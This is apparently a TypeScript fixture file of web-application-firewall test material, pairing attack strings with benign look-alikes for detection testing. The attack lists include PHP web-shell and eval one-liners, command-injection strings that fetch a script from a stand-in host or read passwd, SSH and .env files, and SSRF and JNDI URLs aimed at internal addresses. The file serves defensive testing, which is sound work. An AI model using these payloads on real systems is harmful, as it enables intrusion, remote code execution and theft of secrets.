import type { WafPlace } from '../helpers/waf-send.js';
import type { Material, MaterialCase } from './types.js';

// Words of code that prose, searches and settings forms also write, beside the attacks that need
// them in code: PHP's superglobals ($_GET, $_SERVER ...) named in a question against the same
// names read, called or assigned in PHP; "cd" to a folder written as an instruction against "cd"
// injected after a separator or chained to a command; a directory or database URL entered in a
// settings form (ldap://, ssh://, redis://) against the same schemes pointed at an internal host
// or, for LDAP, at a Java class to load (JNDI); each scheme also as a URL with none of the special
// bytes or other words the engine's prefilter looks for ("ldap://evil.example:1389/Exploit",
// "redis://10.0.0.5:6379/0"), which only the scheme itself gets read.

const PLACES: { place: WafPlace; name: string }[] = [
  { place: 'query', name: 'q' },
  { place: 'form', name: 'text' },
  { place: 'json', name: 'body' },
  { place: 'multipart', name: 'note' },
  { place: 'xml', name: 'value' },
];

function spread(values: [string, string][]): MaterialCase[] {
  return values.flatMap(([value, how]) => PLACES.map((p) => ({ ...p, value, how: `${how}, ${p.place}` })));
}

function benign(values: string[]): MaterialCase[] {
  return values.flatMap((value) => PLACES.map((p): MaterialCase => ({ ...p, value, how: 'look-alike' })));
}

export const phpVars: Material = {
  sources: [
    'PHP manual, "Superglobals" and "Variable variables"',
    'OWASP CRS 3.3, rule 933130 (PHP variables) and its regression tests',
    'swisskyrepo/PayloadsAllTheThings, "Upload Insecure Files" (PHP web shells)',
  ],
  attacks: [
    ...spread([
      ['<?php system($_GET["c"]); ?>', 'web shell in a tag'],
      ['<?=$_GET[0]?>', 'short echo tag'],
      ["$_SERVER['test'];", 'superglobal read as a statement'],
      ['@eval($_POST[x]);', 'eval of a posted value'],
      ["$_GET['f']($_GET['a']);", 'superglobal called'],
      ['echo $_COOKIE["k"];', 'echo of a cookie'],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a PHP variable variable, not a template
      ['${$_REQUEST[v]}', 'variable variable'],
      ["include $_GET['page'];", 'include of a parameter'],
      ["$_SESSION['admin'] = 1;", 'session assigned'],
      ["'a'.$_ENV['PATH']", 'concatenation'],
      ["$GLOBALS['x'];", 'GLOBALS read'],
    ]),
    { place: 'query', name: '$_COOKIE', value: 'x;', how: 'a superglobal as an argument name, query' },
    { place: 'form', name: '$_SESSION[admin]', value: '1', how: 'a superglobal as an argument name, form' },
    { place: 'query', name: 'GLOBALS[_SERVER]', value: '1', how: 'GLOBALS overwritten, query' },
    { place: 'cookie', name: '$_SERVER', value: 'x', how: 'a superglobal as a cookie name' },
  ],
  benign: [
    ...benign([
      'how to read $_GET in php',
      '$_POST is empty after submitting the form',
      'difference between $_GET, $_POST and $_REQUEST',
      "$_SERVER['HTTP_HOST'] returns null behind a proxy",
      'what is PHP_SELF',
      'superglobals (like $_SESSION) in PHP 8',
      '$GLOBALS vs global keyword',
      'Never trust $_COOKIE!',
    ]),
    { place: 'query', name: 'q', value: '$_GET', how: 'a superglobal alone, searched' },
    { place: 'query', name: '_session', value: 'abc', how: 'an argument named _session' },
  ],
};

export const shellProse: Material = {
  sources: [
    'OWASP WSTG 4.7.12, "Testing for Command Injection"',
    'OWASP CRS 3.3, rule 932235 (Unix command injection) and its regression tests',
  ],
  attacks: spread([
    [';cd /tmp && wget http://evil.example/x.sh', 'cd after a separator'],
    ['| cd / ; ls -la', 'cd after a pipe'],
    ['cd /;cd etc;column passwd', 'cd chained to commands'],
    ['CD /;CD ETC;COMM PASSWD PASSWD', 'cd chained, upper case'],
    ['x`cd /etc`', 'cd in backticks'],
    ['$(cd ~/.ssh)', 'cd in a command substitution'],
    ['cd ../../ && cat .env', 'cd chained with &&'],
  ]),
  benign: benign([
    'cd ~/projects',
    'cd ./src and run the build',
    'Then cd ~/projects/rampart to start',
    'Open a terminal.\ncd ~/work\nThat is where the files are.',
    'cd .. goes up one folder',
  ]),
};

export const ssrfSchemes: Material = {
  sources: [
    'OWASP Server-Side Request Forgery Prevention Cheat Sheet',
    'swisskyrepo/PayloadsAllTheThings, "Server Side Request Forgery" (URL schemes)',
    'RFC 4516, "LDAP: Uniform Resource Locator"',
    'Alvaro Muñoz & Oleksandr Mirosh, "A Journey from JNDI/LDAP Manipulation to RCE" (Black Hat USA 2016)',
  ],
  attacks: spread([
    ['gopher://127.0.0.1:6379/_FLUSHALL', 'gopher to Redis'],
    ['dict://localhost:11211/stats', 'dict to memcached'],
    ['ldap://127.0.0.1/', 'LDAP to loopback'],
    ['ldap://127.0.0.1:1389/Exploit', 'JNDI class over LDAP'],
    ['ldaps://evil.example/#Exploit', 'JNDI codebase reference over LDAPS'],
    ['redis://localhost:6379/0', 'Redis on loopback'],
    ['smb://192.168.1.10/c$', 'SMB share on a private address'],
    ['ssh://root@169.254.169.254/', 'SSH to link-local'],
    ['rmi://127.0.0.1:1099/Object', 'RMI'],
    // nothing but the scheme for the prefilter to find
    ['ldap://evil.example:1389/Exploit', 'JNDI class over LDAP, no special byte'],
    ['ldaps://evil.example/Exploit', 'JNDI class over LDAPS, no special byte'],
    ['rmi://evil.example:1099/Exploit', 'RMI to a public host'],
    ['iiop://evil.example:900/Exploit', 'IIOP'],
    ['gopher://10.0.0.5:6379/_INFO', 'gopher to a private address'],
    ['dict://10.0.0.5:11211/stats', 'dict to a private address'],
    ['tftp://10.0.0.1/boot', 'TFTP'],
    ['dns://10.0.0.1/internal', 'DNS'],
    ['fastcgi://10.0.0.3:9000/index', 'FastCGI'],
    ['redis://10.0.0.5:6379/0', 'Redis on a private address'],
    ['smb://10.0.0.8/share', 'SMB on a private address'],
    ['ssh://192.168.1.10/', 'SSH on a private address'],
    ['sftp://10.1.2.3/home', 'SFTP on a private address'],
    ['telnet://10.0.0.1:23', 'telnet on a private address'],
    ['nfs://10.0.0.2/export', 'NFS on a private address'],
    ['mysql://root@10.0.0.5:3306/app', 'MySQL on a private address'],
    ['postgres://app@172.16.0.5:5432/app', 'PostgreSQL on a private address'],
    ['postgresql://192.168.0.5/app', 'PostgreSQL, long scheme'],
    ['mongodb://10.0.0.7:27017/admin', 'MongoDB on a private address'],
    ['memcached://10.0.0.9:11211', 'memcached on a private address'],
    ['zookeeper://10.0.0.4:2181', 'ZooKeeper on a private address'],
    ['rtsp://192.168.1.64/stream', 'RTSP on a private address'],
    // Java's own handlers: jar:// fetches and opens an archive, netdoc:// reads a file or a URL
    ['jar://evil.example:8080/payload', 'jar to a public host, no special byte'],
    ['jar://10.0.0.5/lib/app.jar!/Exploit.class', 'jar to a private address'],
    ['netdoc:///etc/passwd', 'netdoc reading a local file'],
    ['netdoc://evil.example/payload', 'netdoc to a public host, no special byte'],
    ['mailto://root@127.0.0.1', 'mailto to loopback'],
    ['mailto://admin@10.0.0.5:25', 'mailto to a private SMTP port'],
    ['mailto://localhost', 'mailto to localhost, no special byte'],
  ]),
  benign: benign([
    'ldap://ldap.example.com:389/dc=example,dc=com',
    'ldaps://ad.example.org/ou=People,dc=example,dc=org?uid?sub?(objectClass=person)',
    'ldap://directory.example.net',
    'ssh://git@github.com/acme/site.git',
    'redis://cache.example.com:6379/0',
    'postgres://app@db.example.com:5432/app',
    'rtsp://camera.example.net/stream1',
    'mongodb://db.example.com:27017/app',
    'smb://files.example.com/share',
    'mysql://app@db.example.org:3306/shop',
    'sftp://upload.example.com/incoming',
    // the same words where no Java handler or mail relay is asked for
    'mailto:support@example.com',
    'mailto://sales@example.com',
    'Write to us at mailto:help@example.org',
    'Download rampart-cli.jar from the releases page',
    'jar files and netdoc pages',
  ]),
};
